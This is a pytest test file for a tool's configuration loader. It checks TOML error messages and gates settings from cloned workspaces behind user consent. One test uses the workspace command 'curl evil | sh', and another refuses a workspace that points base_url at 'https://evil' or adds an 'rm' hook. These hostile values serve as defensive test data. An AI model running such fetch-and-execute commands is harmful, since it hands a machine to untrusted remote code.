from __future__ import annotations

import os
import re
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from core.config import (
    LARGEST_BYTES,
    Config,
    ConfigError,
    config_path,
    default_config_text,
    load_config,
    strange_settings,
    trust,
)

FULL = """
[model]
name = "qwen/qwen3.7-max"
max_tokens = 8000
[profiles.work]
like = "generic"
base_url = "https://models.example.org"
headers = { x-team = "tools" }
[limits]
budget_usd = 5
[prices."work/big"]
input = 1.5
output = 3
[screen.keymap]
pause = "space"
"""


@pytest.fixture(autouse=True)
def no_user_configuration(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.delenv("LONGWATCH_CONFIG", raising=False)
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "nobody"))
    monkeypatch.setenv("HOME", str(tmp_path / "nobody"))


def written(folder: Path, content: str | bytes, name: str = "config.toml") -> Path:
    file = folder / name
    file.write_bytes(content if isinstance(content, bytes) else content.encode())
    return file


def refusal(file: Path, workspace: Path | None = None) -> str:
    with pytest.raises(ConfigError) as caught:
        load_config(file, workspace)
    sentence = str(caught.value)
    assert sentence.isprintable()
    assert sentence.endswith(".")
    return sentence


def test_without_a_file_everything_has_its_default() -> None:
    config = load_config()
    assert config == Config()
    assert config.model.thinking_budget == 0
    assert config.limits.budget_usd is None


def test_a_full_file_is_read(tmp_path: Path) -> None:
    config = load_config(written(tmp_path, FULL))
    assert config.model.name == "qwen/qwen3.7-max"
    assert config.profiles["work"].headers == {"x-team": "tools"}
    assert config.limits.budget_usd == 5
    assert config.prices["work/big"].output == 3
    assert config.screen.keymap == {"pause": "space"}


def test_a_byte_order_mark_does_no_harm(tmp_path: Path) -> None:
    assert load_config(written(tmp_path, b"\xef\xbb\xbf" + FULL.encode())) == load_config(written(tmp_path, FULL))


def test_the_environment_names_another_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("LONGWATCH_CONFIG", str(written(tmp_path, FULL, "other.toml")))
    assert config_path() == tmp_path / "other.toml"
    assert load_config().model.max_tokens == 8000


def test_a_file_that_was_named_must_be_there(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    assert "There is no configuration file" in refusal(tmp_path / "none.toml")
    monkeypatch.setenv("LONGWATCH_CONFIG", str(tmp_path / "none.toml"))
    with pytest.raises(ConfigError, match=r"none\.toml"):
        load_config()


@pytest.mark.parametrize(
    ("content", "said"),
    [
        ("[model\n", "line 1, column"),
        ("[limits]\nmax_turns = 1\nmax_turns = 2\n", "line 3"),
        (b"[model]\nname = '\xff'\n", "line 2: this is not UTF-8"),
        ("a = " + "[" * 100_000, "nested too deeply"),
        ("a = " + "9" * 5_000, "not valid TOML"),
        ("# " + "x" * LARGEST_BYTES, "larger than 1 MiB"),
        ("[modle]\n", "there is no setting `modle`; did you mean `model`?"),
        ("[model]\nmax_token = 5\n", "there is no setting `model.max_token`; did you mean `max_tokens`?"),
        ("[zzz]\n", "there is no setting `zzz`; there are approvals,"),
        ("[profiles.x]\nbase = 'y'\n", "`profiles.x.base`; did you mean `base_url`?"),
        ('["\\u001b[31m"]\n', r"`\x1b[31m`"),
        ("model = 'claude'\n", "`model` is wrong: expected object, got str"),
        ("[model]\nmax_tokens = 'many'\n", "`model.max_tokens` is wrong: expected int | null, got str"),
        ("[model]\nmax_tokens = 0\n", "`model.max_tokens` is wrong: expected int >= 1"),
        ("[context]\npolicy = 'magic'\n", "(one of auto, summarize, window, mask, off)"),
        ("[limits]\nbudget_usd = nan\n", "`limits.budget_usd` must be a finite number"),
        ("[retry]\noutage_s = inf\n", "`retry.outage_s` must be a finite number"),
        ('[prices."a/b"]\ninput = -1\noutput = 1\n', "`prices.a/b.input` is wrong: expected float >= 0.0"),
        ('[prices."a/b"]\ninput = nan\noutput = 1\n', "`prices.a/b.input` must be a finite number"),
        ('[prices."a/b"]\ninput = 1\n', "`prices.a/b` is wrong: object missing required field output"),
        ("[screen.keymap]\npause = 1\n", "`screen.keymap` is wrong: expected str, got int"),
    ],
)
def test_a_broken_file_is_refused_in_one_sentence(tmp_path: Path, content: str | bytes, said: str) -> None:
    file = written(tmp_path, content)
    sentence = refusal(file)
    assert said in sentence
    assert str(file) in sentence


@pytest.mark.parametrize(
    ("content", "line"),
    [
        ("# one\n\n[model]\nname = 'a'\nmax_token = 5\n", 5),
        ("[model]\n\n[modle]\nx = 1\n", 3),
        ("[approvals]\nmode = 'ask'\n# why\nallow = [\n  'a',\n  1,\n]\n[limits]\nmax_turns = 2\n", 4),
        ("[limits]\nmax_turns = 1\n[model]\nmax_tokens = 'max_tokens = 3'\n", 4),
        ('limits.max_turns = 1\nlimits.budget_usd = """\nmany\n"""\n', 2),
        ("[profiles.x]\nbase_url = 'y'\nbase = 1\n", 3),
        ("[approvals]\n\ndeny = ['run_command:']\n", 3),
        ("[limits]\r\nbudget_usd = nan\r\n", 2),
    ],
)
def test_a_wrong_setting_is_named_with_its_line(tmp_path: Path, content: str, line: int) -> None:
    file = written(tmp_path, content)
    assert refusal(file).startswith(f"{file}, line {line}: ")


def test_a_workspace_that_says_too_much_is_told_the_line(tmp_path: Path) -> None:
    own = written(tmp_path, "name = 'site'\n[model]\nname = 'x'\n", ".longwatch.toml")
    assert refusal(written(tmp_path, ""), tmp_path).startswith(f"{own}, line 2: a workspace may not set `model`")


def test_a_folder_or_an_unreadable_file_is_refused(tmp_path: Path) -> None:
    assert "is not a file" in refusal(tmp_path)
    locked = written(tmp_path, FULL)
    locked.chmod(0)
    if not os.access(locked, os.R_OK):
        assert "can't be read" in refusal(locked)


def test_a_workspace_may_say_harmless_things_and_they_win(tmp_path: Path) -> None:
    user = written(tmp_path, "[workspace]\nname = 'mine'\nignore = ['a/']\n")
    written(tmp_path, "name = 'theirs'\ntest_command = 'pytest'\n", ".longwatch.toml")
    trust(tmp_path, strange_settings(tmp_path, user), user)
    found = load_config(user, tmp_path).workspace
    assert (found.name, found.ignore, found.test_command) == ("theirs", ["a/"], "pytest")


def test_what_a_workspace_says_counts_once_it_was_consented_to_and_only_as_long_as_it_stays(tmp_path: Path) -> None:
    place = tmp_path / "cloned"
    place.mkdir()
    user = written(tmp_path, "[workspace]\ntest_command = 'mine'\n")
    own = written(place, "test_command = 'curl evil | sh'\n", ".longwatch.toml")
    assert load_config(user, place).workspace.test_command == "mine"
    seen = strange_settings(place, user)
    assert seen == {"test_command": "curl evil | sh"}
    trust(place, seen, user)
    assert load_config(user, place).workspace.test_command == "curl evil | sh" and not strange_settings(place, user)
    assert (tmp_path / "trusted.json").stat().st_mode & 0o777 == 0o600

    own.write_text("test_command = 'worse'\n")
    assert load_config(user, place).workspace.test_command == "mine"
    with pytest.raises(ConfigError, match="has changed meanwhile"):
        trust(place, seen, user)
    trust(place, strange_settings(place, user), user)
    trust(place, None, user)
    assert load_config(user, place).workspace.test_command == "mine"


def test_a_workspace_whose_name_no_file_system_takes_says_nothing(tmp_path: Path) -> None:
    nowhere = tmp_path / ("x" * 5_000)
    assert load_config(written(tmp_path, ""), nowhere).workspace.name is None and not strange_settings(nowhere)


def test_the_same_words_elsewhere_and_a_memory_that_can_not_be_read_are_no_consent(tmp_path: Path) -> None:
    user = written(tmp_path, "")
    for name in ("one", "two"):
        (tmp_path / name).mkdir()
        written(tmp_path / name, "name = 'x'\n", ".longwatch.toml")
    trust(tmp_path / "one", {"name": "x"}, user)
    assert strange_settings(tmp_path / "two", user) and not strange_settings(tmp_path / "one", user)
    (tmp_path / "trusted.json").write_bytes(b"\xff[")
    assert strange_settings(tmp_path / "one", user) == {"name": "x"}


@pytest.mark.parametrize("section", list(Config.__struct_fields__))
def test_a_workspace_may_not_set_what_the_user_sets(tmp_path: Path, section: str) -> None:
    user = written(tmp_path, "")
    written(tmp_path, f"[{section}]\n", ".longwatch.toml")
    assert f"a workspace may not set `{section}`" in refusal(user, tmp_path)


@pytest.mark.parametrize("content", ["base_url = 'https://evil'\n", "hooks = ['rm']\n", "name = 7\n", "x = [\n"])
def test_a_workspace_file_with_anything_else_is_refused(tmp_path: Path, content: str) -> None:
    user = written(tmp_path, "")
    written(tmp_path, content, ".longwatch.toml")
    assert ".longwatch.toml" in refusal(user, tmp_path)


def test_the_manual_loads_as_it_is_and_changes_nothing(tmp_path: Path) -> None:
    assert load_config(written(tmp_path, default_config_text())) == Config()


def test_the_manual_loads_with_every_setting_taken_in(tmp_path: Path) -> None:
    text = re.sub(r"^# (\[|\w+ = )", r"\1", default_config_text(), flags=re.MULTILINE)
    config = load_config(written(tmp_path, text))
    assert config.profiles["work"].like == "generic"
    assert config.prices["openrouter/qwen/qwen3.7-max"].input == 1.25
    assert config.retry == Config().retry


def test_the_manual_names_every_section() -> None:
    text = default_config_text()
    assert all(re.search(rf"^(# )?\[{name}\b", text, re.MULTILINE) for name in Config.__struct_fields__)


@settings(max_examples=100, deadline=None)
@given(content=st.binary(max_size=60) | st.text(alphabet="[]{}=\"'.\n ax1-#", max_size=40).map(str.encode))
def test_no_bytes_lead_to_anything_but_a_configuration_or_a_sentence(
    tmp_path_factory: pytest.TempPathFactory, content: bytes
) -> None:
    file = written(tmp_path_factory.getbasetemp(), content, "any.toml")
    try:
        load_config(file)
    except ConfigError as error:
        assert str(error).isprintable()
